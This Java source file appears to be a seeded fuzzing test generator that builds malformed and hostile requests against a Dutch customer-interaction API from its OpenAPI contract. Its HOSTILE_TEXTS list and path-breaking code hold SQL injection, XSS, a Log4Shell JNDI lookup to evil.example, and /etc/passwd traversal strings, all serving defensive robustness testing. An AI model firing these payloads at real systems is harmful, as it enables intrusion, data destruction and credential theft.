package nl.kcc.klantinteracties.security;

import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Makes requests a careless or hostile client could send, from the standard's contract: every operation, with bodies
 * built from its request schema and then broken in one place (a wrong type, a string too long, a control character,
 * an injection string, a huge number, an unknown enumeration value, a reference to nothing, deep nesting), and query
 * strings and paths broken likewise. Seeded, so a failure can be replayed.
 */
final class HostileRequests {

    record Operation(String method, String path, List<JsonNode> parameters, JsonNode requestSchema) {}

    record Request(String method, String path, String query, String contentType, String body, String what) {
        String uri() {
            return query.isEmpty() ? path : path + "?" + query;
        }
    }

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private static final List<String> HOSTILE_TEXTS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE klantcontact; --",
            "\" OR 1=1 --",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "../../../../etc/passwd",
            "%00%27",
            "\u0000",
            "nul\u0000teken",
            "\u0007bel",
            "\u001b[31mrood",
            "\u202eomgekeerd",
            "\ud800",
            "😀🏳️‍🌈",
            "",
            "   ",
            "null",
            "true",
            "9".repeat(400),
            "x".repeat(5_000),
            "-1",
            "0x7fffffff");

    private final Random random;
    private final JsonNode contract;
    private final Map<String, String> existing;

    /**
     * @param existing the uuid of an existing object per schema name ("Klantcontact") and per collection path
     *     ("/klantcontacten"), for references and paths that point at something real
     */
    HostileRequests(long seed, JsonNode contract, Map<String, String> existing) {
        this.random = new Random(seed);
        this.contract = contract;
        this.existing = existing;
    }

    static List<Operation> operations(JsonNode contract) {
        var operations = new ArrayList<Operation>();
        contract.path("paths")
                .properties()
                .forEach(path -> path.getValue().properties().forEach(entry -> {
                    String method = entry.getKey();
                    if (!List.of("get", "post", "put", "patch", "delete").contains(method)) {
                        return;
                    }
                    var parameters = new ArrayList<JsonNode>();
                    entry.getValue().path("parameters").forEach(parameters::add);
                    JsonNode schema = entry.getValue()
                            .path("requestBody")
                            .path("content")
                            .path("application/json")
                            .path("schema");
                    operations.add(new Operation(
                            method.toUpperCase(), path.getKey(), parameters, schema.isMissingNode() ? null : schema));
                }));
        return operations;
    }

    Request next(Operation operation, String basePath) {
        String path = basePath + fillPath(operation.path());
        int kind = random.nextInt(10);
        if (operation.requestSchema() == null) {
            String query = kind < 7 ? hostileQuery(operation) : "";
            String brokenPath = kind >= 8 ? basePath + breakPath(operation.path()) : path;
            return new Request(operation.method(), brokenPath, query, null, null, "query " + query);
        }
        JsonNode body = example(operation.requestSchema(), 0);
        return switch (kind) {
            case 0 -> new Request(operation.method(), path, "", "application/json", malformedJson(), "malformed JSON");
            case 1 ->
                new Request(
                        operation.method(),
                        path,
                        "",
                        pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")),
                        body.toString(),
                        "wrong content type");
            case 2 -> new Request(operation.method(), path, "", "application/json", deeplyNested(), "deep nesting");
            case 3 ->
                new Request(
                        operation.method(),
                        basePath + breakPath(operation.path()),
                        "",
                        "application/json",
                        body.toString(),
                        "broken path");
            case 4 -> new Request(operation.method(), path, "", "application/json", body.toString(), "as built");
            default -> {
                String where = breakOnePlace(body);
                yield new Request(operation.method(), path, "", "application/json", body.toString(), "body " + where);
            }
        };
    }

    // Bodies built from the schema.

    private JsonNode example(JsonNode schema, int depth) {
        schema = resolve(schema);
        if (schema.has("oneOf")) {
            JsonNode variant = resolve(pick(list(schema.get("oneOf"))));
            if (!(example(variant, depth) instanceof ObjectNode object)) {
                return example(variant, depth);
            }
            JsonNode discriminator = schema.path("discriminator");
            discriminator.path("mapping").properties().forEach(mapping -> {
                if (resolve(JSON.objectNode().put("$ref", mapping.getValue().asString()))
                        .equals(variant)) {
                    object.put(discriminator.path("propertyName").asString(), mapping.getKey());
                }
            });
            return object;
        }
        if (schema.has("allOf")) {
            ObjectNode merged = JSON.objectNode();
            for (JsonNode part : schema.get("allOf")) {
                JsonNode value = example(part, depth);
                if (value instanceof ObjectNode object) {
                    merged.setAll(object);
                } else {
                    return value;
                }
            }
            return merged;
        }
        String type = schema.path("type").asString("object");
        return switch (type) {
            case "object" -> object(schema, depth);
            case "array" -> {
                ArrayNode array = JSON.arrayNode();
                if (depth < 3 && random.nextBoolean()) {
                    array.add(example(schema.path("items"), depth + 1));
                }
                yield array;
            }
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            case "integer" -> JSON.numberNode(schema.path("minimum").asInt(1));
            case "number" -> JSON.numberNode(1.5);
            default -> JSON.stringNode(text(schema));
        };
    }

    private JsonNode object(JsonNode schema, int depth) {
        ObjectNode object = JSON.objectNode();
        if (isReference(schema)) {
            object.put("uuid", existingFor(schema));
            return object;
        }
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(name -> required.add(name.asString()));
        for (var property : schema.path("properties").properties()) {
            JsonNode propertySchema = property.getValue();
            if (resolve(propertySchema).path("readOnly").asBoolean(false)
                    || propertySchema.path("readOnly").asBoolean(false)) {
                continue;
            }
            if (required.contains(property.getKey()) || random.nextInt(3) > 0) {
                object.set(property.getKey(), depth > 4 ? JSON.nullNode() : example(propertySchema, depth + 1));
            }
        }
        return object;
    }

    private boolean isReference(JsonNode schema) {
        JsonNode properties = schema.path("properties");
        return properties.size() == 2 && properties.has("uuid") && properties.has("url");
    }

    /** The schema this reference schema ({@code PartijForeignKey}) points at, by the name it was found under. */
    private String existingFor(JsonNode referenceSchema) {
        for (var entry : contract.path("components").path("schemas").properties()) {
            if (entry.getValue().equals(referenceSchema) && entry.getKey().endsWith("ForeignKey")) {
                String target = entry.getKey().substring(0, entry.getKey().length() - "ForeignKey".length());
                return existing.getOrDefault(target, UUID.randomUUID().toString());
            }
        }
        return UUID.randomUUID().toString();
    }

    private String text(JsonNode schema) {
        if (schema.has("enum")) {
            return pick(list(schema.get("enum"))).asString();
        }
        return switch (schema.path("format").asString("")) {
            case "uuid" -> UUID.randomUUID().toString();
            case "date" -> "2024-0" + (1 + random.nextInt(9)) + "-1" + random.nextInt(10);
            case "date-time" -> "2024-03-0" + (1 + random.nextInt(9)) + "T10:00:00+01:00";
            case "uri" -> "https://example.gemeente.nl/zaaktypen/" + UUID.randomUUID();
            case "email" -> "iemand@example.nl";
            default -> {
                int max = schema.path("maxLength").asInt(20);
                String value = "tekst" + random.nextInt(1000);
                yield value.length() > max ? value.substring(0, max) : value;
            }
        };
    }

    // Breaking things.

    /** Replaces one value somewhere in the body by a hostile one; returns where. */
    private String breakOnePlace(JsonNode body) {
        List<String> paths = new ArrayList<>();
        collect(body, "", paths);
        String target = paths.isEmpty() ? "" : pick(paths);
        JsonNode hostile = hostileValue();
        if (target.isEmpty()) {
            if (body instanceof ObjectNode object) {
                object.set(pick(List.of("onbekend", "uuid", "url", "_expand")), hostile);
            }
            return "top level";
        }
        int cut = target.lastIndexOf('/');
        JsonNode parent = body.at(target.substring(0, cut));
        String key = target.substring(cut + 1);
        if (parent instanceof ObjectNode object) {
            object.set(key, hostile);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(key), hostile);
        }
        return target + " = " + abbreviate(hostile.toString());
    }

    private void collect(JsonNode node, String path, List<String> paths) {
        if (node instanceof ObjectNode object) {
            object.properties().forEach(entry -> {
                String child = path + "/" + entry.getKey();
                paths.add(child);
                collect(entry.getValue(), child, paths);
            });
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                paths.add(path + "/" + i);
                collect(array.get(i), path + "/" + i, paths);
            }
        }
    }

    private JsonNode hostileValue() {
        return switch (random.nextInt(9)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.numberNode(new java.math.BigInteger("9".repeat(40)));
            case 2 -> JSON.numberNode(new java.math.BigDecimal("1e400"));
            case 3 -> JSON.booleanNode(true);
            case 4 -> JSON.arrayNode().add("a").add(JSON.objectNode());
            case 5 ->
                JSON.objectNode()
                        .put(
                                "uuid",
                                pick(List.of("niet-een-uuid", UUID.randomUUID().toString())));
            case 6 -> JSON.stringNode("x".repeat(1 + random.nextInt(5_000)));
            default -> JSON.stringNode(pick(HOSTILE_TEXTS));
        };
    }

    private String hostileQuery(Operation operation) {
        var parts = new ArrayList<String>();
        List<JsonNode> query = operation.parameters().stream()
                .filter(parameter -> parameter.path("in").asString().equals("query"))
                .toList();
        int count = 1 + random.nextInt(3);
        for (int i = 0; i < count; i++) {
            switch (random.nextInt(8)) {
                case 0 ->
                    parts.add("pageSize=" + pick(List.of("0", "-1", "1000000000000", "abc", "1.5", "500", "501")));
                case 1 -> parts.add("page=" + pick(List.of("0", "-1", "abc", "999999", "1", "1e3")));
                case 2 -> parts.add(pick(List.of("onbekend", "expand[]", "ordering", "__proto__")) + "=1");
                case 3 -> {
                    if (!query.isEmpty()) {
                        String name = pick(query).path("name").asString();
                        parts.add(encode(name) + "=a");
                        parts.add(encode(name) + "=b");
                    }
                }
                default -> {
                    if (!query.isEmpty()) {
                        JsonNode parameter = pick(query);
                        parts.add(encode(parameter.path("name").asString()) + "=" + encode(queryValue(parameter)));
                    }
                }
            }
        }
        return String.join("&", parts);
    }

    private String queryValue(JsonNode parameter) {
        JsonNode schema = resolve(parameter.path("schema"));
        if (schema.path("type").asString().equals("array")) {
            List<JsonNode> options = list(schema.path("items").path("enum"));
            return random.nextBoolean() && !options.isEmpty()
                    ? pick(options).asString() + "," + pick(options).asString()
                    : pick(List.of("onbekend", "hadBetrokkenen.onbekend", ",", "*"));
        }
        return random.nextInt(4) == 0 ? text(schema) : pick(HOSTILE_TEXTS);
    }

    private String fillPath(String template) {
        String collection = template.replaceAll("/\\{uuid}.*$", "");
        return template.replace(
                "{uuid}",
                random.nextInt(3) == 0
                        ? UUID.randomUUID().toString()
                        : existing.getOrDefault(collection, UUID.randomUUID().toString()));
    }

    private String breakPath(String template) {
        if (!template.contains("{uuid}")) {
            return template + pick(List.of("/", "/x", "%2e%2e/", ";jsessionid=1"));
        }
        return template.replace(
                "{uuid}", encode(pick(List.of("12", "' or 1=1 --", "00000000-0000-0000-0000", "x".repeat(300), ".."))));
    }

    private String malformedJson() {
        return pick(List.of("{", "[]", "\"tekst\"", "null", "{\"a\":}", "{'a': 1}", "{\"a\": 1,}", "\u0000"));
    }

    private String deeplyNested() {
        int depth = 600 + random.nextInt(5_000);
        return "{\"a\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
    }

    // Helpers.

    private JsonNode resolve(JsonNode schema) {
        int guard = 0;
        while (schema.has("$ref") && guard++ < 20) {
            String ref = schema.get("$ref").asString();
            schema = contract.at(ref.substring(1));
        }
        return schema;
    }

    private static List<JsonNode> list(JsonNode array) {
        var items = new ArrayList<JsonNode>();
        Iterator<JsonNode> iterator = array.iterator();
        iterator.forEachRemaining(items::add);
        return items;
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private static String encode(String text) {
        return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8);
    }

    private static String abbreviate(String text) {
        return text.length() > 80 ? text.substring(0, 80) + "…" : text;
    }
}
